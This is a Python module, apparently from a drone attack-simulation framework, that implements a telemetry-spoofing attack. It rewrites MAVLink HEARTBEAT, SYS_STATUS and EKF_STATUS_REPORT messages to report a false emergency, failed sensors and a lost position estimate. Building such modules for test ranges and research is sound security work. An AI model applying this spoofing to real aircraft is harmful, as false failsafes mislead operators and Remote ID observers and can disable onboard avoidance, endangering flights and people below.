"""False alarm: reports of an emergency and of failed sensors that an aircraft does not have."""

from __future__ import annotations

from typing import Any, Final, Literal

from skyrange.attack.bases.mavlink.message_fields import put, put_bits
from skyrange.attack.bases.mavlink.params import SENSORS, SensorNames
from skyrange.attack.bases.mavlink.telemetry import VARIANCES, AlteredTelemetry
from skyrange.attack.contract import AttackContext
from skyrange.attack.declaration import attack
from skyrange.attack.presets import TELEMETRY_CONTROLS, rewrites_telemetry
from skyrange.codec.mavlink import dialect as mav
from skyrange.contracts.plugins.fields import param
from skyrange.core.time import Time

_BAD_VARIANCE: Final = 1.0
"""Claimed variance (normalised innovation): at 1 the estimator would reject the measurement."""
_STATES: Final = {"critical": int(mav.MAV_STATE_CRITICAL), "emergency": int(mav.MAV_STATE_EMERGENCY)}


@attack(
    "telemetry.false_alarm",
    technique="T0856",
    surface=("gcs", "log", "autopilot", "rid_data"),
    persists="acts",
    effect="Remote ID says emergency, and the aircraft's own avoidance stays off, as in a failsafe",
    threat=rewrites_telemetry("the messages that report failures"),
    controls=TELEMETRY_CONTROLS,
)
class FalseAlarm(AlteredTelemetry):
    """Reports a failsafe, failed sensors and a lost estimator that the aircraft does not have."""

    state: Literal["critical", "emergency"] = param(
        "Claimed MAV_STATE in HEARTBEAT; ArduPilot reports critical during a failsafe.", default="critical"
    )
    sensors: SensorNames = param(
        "Sensors that seem to have failed, named as in MAV_SYS_STATUS_SENSOR; may be empty.", default=("GPS", "AHRS")
    )
    estimator: bool = param(
        "Whether the estimator seems to have lost its position, in EKF_STATUS_REPORT.", default=True
    )
    failed: int = 0
    """Bits of the sensors."""

    def prepare(self, context: AttackContext) -> None:
        """Join the bits."""
        for name in self.sensors:
            self.failed |= SENSORS[name]

    def find_messages(self) -> tuple[str, ...]:
        """Those that report failures."""
        return ("HEARTBEAT", "SYS_STATUS", *(("EKF_STATUS_REPORT",) if self.estimator else ()))

    def alter(self, message: str, fields: Any, since_ns: Time) -> bool:
        """Report the emergency."""
        if message == "HEARTBEAT":
            put(fields, "system_status", _STATES[self.state])
        elif message == "SYS_STATUS":
            for name in ("onboard_control_sensors_present", "onboard_control_sensors_enabled"):
                put_bits(fields, name, self.failed, True)
            put_bits(fields, "onboard_control_sensors_health", self.failed, False)
        else:
            put(fields, "flags", mav.EKF_ATTITUDE | mav.EKF_CONST_POS_MODE)
            for name in VARIANCES:
                put(fields, name, max(float(fields[name]), _BAD_VARIANCE))
        return True
